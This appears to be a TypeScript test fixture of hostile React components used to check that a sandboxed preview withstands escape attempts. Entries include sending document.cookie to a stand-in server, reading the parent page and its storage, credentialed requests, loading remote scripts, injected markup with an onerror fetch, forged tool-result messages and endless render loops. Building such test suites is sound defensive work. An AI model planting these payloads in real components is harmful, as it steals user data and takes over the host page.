// React components that a preview must survive. `URL_` stands for the listening server; `lost(what)` says that something was reached.
const told = `const lost = (what) => parent.postMessage({ type: 'error', what: 'REACHED ' + what }, '*');`;

/** Code that runs once the component is drawn. */
const effect = (code: string): string =>
  `import { useEffect } from 'react';\n${told}\nexport default function Card() {\n  useEffect(() => { try { ${code} } catch {} }, []);\n  return <p>drawn</p>;\n}`;
const drawn = (element: string): string => `${told}\nexport default function Card() {\n  return ${element};\n}`;

export const hostileComponents: Readonly<Record<string, string>> = {
  cookies: effect('if (document.cookie) lost("cookie"); fetch("URL_/?" + document.cookie)'),
  'the page above': effect('lost(parent.document.title)'),
  'the top page': effect('lost(top.location.href)'),
  'storage of the page': effect('lost(String(parent.localStorage.length))'),
  'storage of a frame in it': effect(
    'const f = document.createElement("iframe"); document.body.append(f); lost(String(f.contentWindow.localStorage.length))',
  ),
  databases: effect('indexedDB.open("x").onsuccess = () => lost("indexedDB")'),
  fetch: effect('fetch("URL_/fetch").then(() => lost("fetch")); navigator.sendBeacon("URL_/beacon", "x")'),
  'fetch of this server': effect(
    'fetch("/api/session", { credentials: "include" }).then((r) => lost("api " + r.status))',
  ),
  'a socket': effect('new WebSocket("URL_/socket".replace("http", "ws"))'),
  'top navigation': effect('top.location = "URL_/top"'),
  'its own navigation': effect('location.href = "URL_/own"'),
  'a window': effect('open("URL_/window")'),
  'a form': drawn(
    '<form action="URL_/form" method="post" ref={(form) => form?.requestSubmit()}><input name="a" value="b" readOnly /></form>',
  ),
  'a link that is pressed': drawn('<a href="URL_/link" target="_top" ref={(link) => link?.click()}>x</a>'),
  'images and styles': drawn(
    '<div style={{ background: "url(URL_/background)" }}><img src="URL_/image" /><link rel="stylesheet" href="URL_/style" /></div>',
  ),
  'markup of its own': drawn(
    '<div dangerouslySetInnerHTML={{ __html: "<img src=URL_/raw onerror=\\"fetch(\'URL_/error\')\\"><iframe src=URL_/frame></iframe>" }} />',
  ),
  'a place outside': `import { createPortal } from 'react-dom';\n${told}\nexport default () => createPortal(<b ref={() => lost('portal')}>x</b>, parent.document.body);`,
  'a script of elsewhere': effect(
    'const s = document.createElement("script"); s.src = "URL_/script.js"; document.body.append(s)',
  ),
  'a worker': effect(
    'new Worker(URL.createObjectURL(new Blob(["fetch(\\"URL_/worker\\")"]))); navigator.serviceWorker.register("URL_/sw.js")',
  ),
  'code from text': effect('eval("lost(\\"eval\\")"); new Function("lost(\\"Function\\")")()'),
  'React of the page': effect('lost(parent.React.version)'),
  'orders to the page': effect('parent.postMessage({ type: "tool-result", html: "<img src=URL_/order>" }, "*")'),
  'components without end': `${told}\nconst Fork = () => <><Fork /><Fork /></>;\nexport default Fork;`,
  'states without end': `import { useState } from 'react';\nexport default function Card() {\n  const [a, set] = useState(0);\n  set(a + 1);\n  return <p>{a}</p>;\n}`,
  'an endless loop': drawn('(() => { for (;;); })()'),
};
